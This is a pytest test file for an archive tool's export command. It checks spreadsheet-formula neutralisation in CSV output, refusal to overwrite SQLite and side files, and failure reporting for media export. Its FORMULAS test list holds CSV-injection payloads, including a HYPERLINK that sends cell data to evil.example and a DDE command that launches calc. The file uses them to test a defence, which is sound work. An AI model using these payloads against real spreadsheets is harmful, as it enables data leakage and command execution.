"""Outputs harm no one: CSV a spreadsheet cannot run, ``-o`` never onto any SQLite file,
``--media-dir`` that says what it wrote when it fails.

Through the real command line (CliRunner, or a subprocess where a resource
limit stands in for a full disk), and hypothesis over the CSV cells.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import resource
import signal
import sqlite3
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from archive.export.cells import BOM, FORMULA_STARTS, needs_mark, neutralise, restore
from archive.export.records import FIELDS
from archive.export.tabular import write_csv
from archive.store.fts import register_functions
from tests.crawling import cli_argv
from tests.helpers import run
from tests.safety import file_bytes, integrity, unchanged
from tests.sample_archive import T1, build_sample_archive

FUZZ = settings(
    max_examples=int(os.environ.get("CHANARCHIVE_FUZZ_EXAMPLES", "150")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)

#: Post texts a spreadsheet would run (or that look like a mark), and safe ones.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n\n=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''@x",
    "- a list item",
]
SAFE = [
    "今天晴，气温十八度。",
    "a = b",
    "'quoted'",
    "email me: a@b.example",
    "",
    "3 - 2",
    "-5",
    "+1.5",
]


def _is_formula(cell: str) -> bool:
    """What a spreadsheet may run: a tab or CR first, or a formula start after white space
    (a plain number, ``-5``, is a number)."""
    if cell.startswith(("\t", "\r")):
        return True
    if re.fullmatch(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?", cell):
        return False
    stripped = "".join(c for c in cell if not (c.isspace() or c in "\u200b\u200c\u200d\ufeff"))
    return stripped[:1] in FORMULA_STARTS


@pytest.fixture
def sample(tmp_path) -> Path:
    return build_sample_archive(tmp_path / "archive.db")


def with_texts(db: Path, texts: list[str]) -> dict[str, str]:
    """Give the sample's posts 1, 2, … these texts (and titles), straight with SQLite."""
    conn = sqlite3.connect(db)
    register_functions(conn)
    ids = [r[0] for r in conn.execute("SELECT id FROM posts ORDER BY id")]
    by_post = {}
    for post, text in zip(ids, texts, strict=False):
        conn.execute(
            "UPDATE post_versions SET text = ?, raw_text = ?, title = ? WHERE post = ?",
            [text, text, text, post],
        )
        post_id = conn.execute("SELECT post_id FROM posts WHERE id = ?", [post]).fetchone()[0]
        by_post[post_id] = text
    conn.commit()
    conn.close()
    return by_post


def rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


# ------------------------------------------------------------------ CSV cells


@FUZZ
@given(st.text())
def test_a_neutralised_cell_never_runs_and_restores_exactly(text):
    cell = neutralise(text)
    assert not _is_formula(cell)
    assert restore(cell) == text
    if not needs_mark(text):
        assert cell == text  # safe text is written as it is


@FUZZ
@given(
    st.lists(
        st.text(st.sampled_from("=+-@'\t\r \n\u3000＝＋－＠ab中文,\"")) | st.text(),
        min_size=1,
        max_size=6,
    )
)
def test_every_text_cell_of_the_csv_is_safe_and_the_jsonl_keeps_it(texts):
    records = [{name: None for name in FIELDS} | {"text": t, "title": t} for t in texts]
    out = io.StringIO()
    write_csv(records, out)
    got = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [restore(r["text"]) for r in got] == texts
    for row in got:
        assert not any(_is_formula(cell) for cell in row.values())
    raw = io.StringIO()
    write_csv(records, raw, raw=True)
    assert [r["text"] for r in csv.DictReader(io.StringIO(raw.getvalue()))] == texts


def test_export_csv_neutralises_formulas_and_raw_csv_and_jsonl_keep_them(sample):
    texts = with_texts(sample, FORMULAS + SAFE)
    done = run(sample, "export", "--format", "csv")
    assert done.exit_code == 0, done.output
    got = {r["post_id"]: r for r in rows(done.output)}
    for post_id, text in texts.items():
        cell = got[post_id]["text"]
        assert not _is_formula(cell), cell
        assert restore(cell) == text
        assert cell == (("'" + text) if needs_mark(text) else text)
        assert got[post_id]["title"] == cell and got[post_id]["raw_text"] == cell
    assert got["1"]["text"].startswith("'=HYPERLINK(")
    raw = {r["post_id"]: r["text"] for r in rows(run(sample, "export", "--format", "csv", "--raw-csv").output)}  # fmt: skip
    assert all(raw[post_id] == text for post_id, text in texts.items())
    records = [json.loads(line) for line in run(sample, "export", "--format", "jsonl").output.splitlines()]  # fmt: skip
    assert {r["post_id"]: r["text"] for r in records if r["post_id"] in texts} == texts


def test_excel_gets_a_byte_order_mark_and_chinese_reads_back(sample, tmp_path):
    out = tmp_path / "excel.csv"
    assert run(sample, "export", "--format", "csv", "--excel", "-o", str(out)).exit_code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfchannel,post_id,")
    with open(out, encoding="utf-8-sig", newline="") as file:
        texts = [r["text"] for r in csv.DictReader(file)]
    assert "今天晴，气温十八度，适合出行。" in texts
    plain = run(sample, "export", "--format", "csv").output
    assert plain.startswith("channel,post_id,") and not plain.startswith(BOM)


@pytest.mark.parametrize(
    "args",
    [
        ["--format", "jsonl", "--excel"],
        ["--format", "warc", "--raw-csv"],
        ["--format", "csv", "--excel", "--raw-csv"],
    ],
)
def test_csv_flags_fit_csv_only(sample, tmp_path, args):
    out = tmp_path / "out"
    done = run(sample, "export", *args, "-o", str(out))
    assert done.exit_code == 2 and "Error:" in done.output and not out.exists()


def test_help_says_how_to_get_the_exact_text():
    text = " ".join(run(None, "export", "--help").output.split())
    assert "--raw-csv" in text and "--excel" in text and "--format jsonl" in text
    text = " ".join(run(None, "sources", "export", "--help").output.split())
    assert "--raw-csv" in text and "never written" in text


# ------------------------------------------------------------------ -o onto SQLite files


@pytest.fixture
def other(tmp_path):
    """Another archive with committed rows still in its -wal (a writer holds it open)."""
    path = build_sample_archive(tmp_path / "other.db")
    conn = sqlite3.connect(path)
    register_functions(conn)
    conn.execute("PRAGMA journal_mode=WAL")
    conn.execute("PRAGMA wal_autocheckpoint=0")
    conn.execute("UPDATE channels SET title = 'committed, in the WAL only'")
    conn.commit()
    assert Path(f"{path}-wal").stat().st_size > 0
    yield path
    conn.close()


def _targets(tmp_path: Path, other: Path) -> list[Path]:
    notes = tmp_path / "notes.sqlite"
    conn = sqlite3.connect(notes)
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    journal = tmp_path / "rollback.db-journal"
    journal.write_bytes(bytes.fromhex("d9d505f920a163d7") + b"\0" * 504)
    disguised = tmp_path / "copy.bin"
    disguised.write_bytes(Path(other).read_bytes())
    wal_link = tmp_path / "wal-link.txt"
    wal_link.symlink_to(f"{other}-wal")
    wal_hard = tmp_path / "wal-hard.txt"
    os.link(f"{other}-wal", wal_hard)
    shm_hard = tmp_path / "shm-hard.txt"
    os.link(f"{other}-shm", shm_hard)
    return [
        Path(f"{other}-wal"),
        Path(f"{other}-shm"),
        tmp_path / "other.db-journal",  # not there yet: a journal by its name
        tmp_path / "OTHER.DB-WAL",
        journal,
        other,
        notes,
        disguised,
        wal_link,
        wal_hard,
        shm_hard,
        Path(f"{notes}-wal"),
    ]


def test_o_is_refused_onto_any_sqlite_file_or_side_file(sample, other, tmp_path):
    for target in _targets(tmp_path, other):
        existed = target.exists()
        for args in (
            ["export", "--format", "jsonl"],
            ["export", "--format", "csv"],
            ["export", "--format", "warc"],
            ["export", "--format", "atom", "--channel", "news_cn"],
            ["sources", "export"],
        ):
            with unchanged(target, other):
                done = run(sample, *args, "-o", str(target))
            assert done.exit_code == 2, (target, args, done.output)
            lines = done.output.strip().splitlines()
            assert len(lines) == 1 and lines[0].startswith("Error: -o "), done.output
            assert target.exists() == existed, target
        assert not list(tmp_path.glob(".*.part")), "a temporary file was left"
    conn = sqlite3.connect(other)
    assert conn.execute("SELECT DISTINCT title FROM channels").fetchall() == [
        ("committed, in the WAL only",)
    ]
    conn.close()
    assert integrity(other) == "ok"


def test_o_still_writes_an_ordinary_file(sample, tmp_path):
    out = tmp_path / "posts-journal.jsonl"  # only the end of a name makes a side file
    assert run(sample, "export", "--format", "jsonl", "-o", str(out)).exit_code == 0
    assert out.read_text().count("\n") == 8


# ------------------------------------------------------------------ --media-dir that fails


def with_media(db: Path, sizes: list[int]) -> list[str]:
    """Give posts 1, 2, … one archived photo each, of these sizes; their sha256 in order."""
    conn = sqlite3.connect(db)
    register_functions(conn)
    shas = []
    for n, size in enumerate(sizes, 1):
        body = bytes([n]) * size
        sha = hashlib.sha256(body).hexdigest()
        post = conn.execute("SELECT id FROM posts WHERE post_id = ?", [str(n)]).fetchone()[0]
        conn.execute(
            "INSERT INTO media_files (sha256, content_type, size, first_seen, stored_size)"
            " VALUES (?, 'image/jpeg', ?, ?, ?)",
            [sha, size, T1, size],
        )
        conn.execute("INSERT INTO media_bodies (sha256, body) VALUES (?, ?)", [sha, body])
        media = json.dumps([{"type": "photo", "url": f"https://cdn.example/{n}.jpg"}])
        conn.execute("UPDATE post_versions SET media = ? WHERE post = ?", [media, post])
        conn.execute(
            "INSERT INTO post_media (post, version, slot, url, sha256)"
            " SELECT post, version, '0', ?, ? FROM post_versions WHERE post = ?",
            [f"https://cdn.example/{n}.jpg", sha, post],
        )
        shas.append(sha)
    conn.commit()
    conn.close()
    return shas


def _limited(max_file_bytes: int):
    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (max_file_bytes, max_file_bytes))

    return limit


def test_a_media_dir_that_fills_up_says_what_was_written_and_writes_no_export(sample, tmp_path):
    shas = with_media(sample, [10_000, 20_000, 900_000, 30_000])
    out, media = tmp_path / "posts.jsonl", tmp_path / "media"
    out.write_text("the previous export\n")
    before = file_bytes(sample)
    done = subprocess.run(
        cli_argv(sample, "export", "--format", "jsonl", "-o", str(out), "--media-dir", str(media)),
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=_limited(500_000),  # a file may not pass 500 kB: the third photo cannot
    )
    assert done.returncode == 1, done.stderr
    [line] = done.stderr.strip().splitlines()
    assert line.startswith("Error: cannot write the media file ") and "Traceback" not in line
    assert "2 of 4 media files were written" in line and "the export was not written" in line
    assert out.read_text() == "the previous export\n"  # not a half export in its place
    assert sorted(p.name for p in media.iterdir()) == sorted(f"{s}.jpg" for s in shas[:2])
    assert not list(tmp_path.glob(".*.part")) and not list(media.glob(".partial-*"))
    assert file_bytes(sample) == before


def test_a_media_dir_to_stdout_that_fails_writes_no_records(sample, tmp_path):
    shas = with_media(sample, [1000, 2000])
    media = tmp_path / "media"
    media.mkdir()
    (media / f"{shas[1]}.jpg").mkdir()  # a folder where a file must go
    done = run(sample, "export", "--format", "csv", "--media-dir", str(media))
    assert done.exit_code == 1
    assert "1 of 2 media files were written" in done.output
    assert "not a file is in its place" in done.output
    assert "channel,post_id" not in done.output  # no records on stdout as if complete
    assert (media / f"{shas[0]}.jpg").read_bytes() == bytes([1]) * 1000


def test_a_media_dir_export_that_works_writes_both(sample, tmp_path):
    shas = with_media(sample, [1000, 2000, 3000])
    out, media = tmp_path / "posts.jsonl", tmp_path / "media"
    done = run(sample, "export", "--format", "jsonl", "-o", str(out), "--media-dir", str(media))
    assert done.exit_code == 0, done.output
    assert sorted(p.name for p in media.iterdir()) == sorted(f"{s}.jpg" for s in shas)
    assert out.read_text().count("\n") == 8
    # Again: the files already there are kept; a truncated one is written anew.
    (media / f"{shas[2]}.jpg").write_bytes(b"cut")
    assert run(sample, "export", "--format", "jsonl", "-o", str(out), "--media-dir", str(media)).exit_code == 0  # fmt: skip
    assert (media / f"{shas[2]}.jpg").read_bytes() == bytes([3]) * 3000


# ------------------------------------------------------------------ a hostile archive


def _strict(text: str):
    """JSON as the standard has it: NaN and Infinity are not JSON."""

    def refuse(name: str):
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


def test_every_export_of_a_hostile_archive_answers_with_valid_records(tmp_path):
    from tests.hostile_archive import BIG, hostile_archive

    db = tmp_path / "archive.db"
    hostile_archive(db)
    before = file_bytes(db)
    for fmt in ("jsonl", "csv"):
        for extra in ([], ["--all-versions"]):
            out = tmp_path / f"out.{fmt}"
            done = subprocess.run(
                cli_argv(db, "export", "--format", fmt, *extra, "-o", str(out)),
                capture_output=True,
                text=True,
                timeout=300,
            )
            assert done.returncode == 0 and not done.stderr, done.stderr
    records = [_strict(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    by_id = {(r["channel"], r["post_id"]): r for r in records}
    assert by_id[("news_cn", "1")]["text"] == BIG  # whole, as the archive holds it
    assert by_id[("news_cn", "3")]["views"] is None  # "lots" is not a count
    # Of [1, "x", {"url": 5, "type": ["photo"], …}] only the object is an item, and its
    # type and URL are not text: null (its slot's archived file is still named).
    [item] = by_id[("news_cn", "4")]["media"]
    assert (item["type"], item["url"], len(item["sha256"])) == (None, None, 64)
    assert by_id[("news_cn", "7")]["links"] == []
    assert "\ufffd" in by_id[("news_cn", "7")]["title"]  # bytes that are not UTF-8
    limit = csv.field_size_limit(2**31 - 1)  # a post of megabytes is one cell
    try:
        with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
            assert len(list(csv.DictReader(file))) == len(records)
    finally:
        csv.field_size_limit(limit)
    for fmt, extra in (("atom", ["--channel", "news_cn"]), ("warc", [])):
        out = tmp_path / f"out.{fmt}"
        done = subprocess.run(
            cli_argv(db, "export", "--format", fmt, *extra, "-o", str(out)),
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0 and not done.stderr, done.stderr
    assert file_bytes(db) == before
